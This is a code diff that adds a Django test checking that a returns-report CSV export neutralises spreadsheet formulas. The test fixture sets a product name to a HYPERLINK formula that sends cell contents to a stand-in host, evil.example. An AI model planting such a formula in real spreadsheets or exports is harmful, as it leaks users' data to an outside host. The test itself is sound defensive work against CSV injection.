@@ -65,3 +65,14 @@ def test_the_reasons_list_is_edited_in_the_admin_and_store_staff_cannot(admin_cl
     detail = admin_client.get(f"/admin/orders/return/{one.pk}/change/")
     assert detail.status_code == 200 and one.number in detail.content.decode()
     assert client.get("/admin/orders/returnreason/report.csv").status_code == 302  # to the admin login
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(admin_client, returned):
+    # A product name imported as a formula reaches the export as text (issue 25, item 12).
+    product = returned["skus"]["TEE-M"].product
+    product.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    product.save(update_fields=["name"])
+    response = admin_client.get("/admin/orders/returnreason/report.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    tee = next(r for r in rows if r["sku"] == "TEE-M")
+    assert tee["product"] == "'" + product.name and tee["units_returned"] == "3"
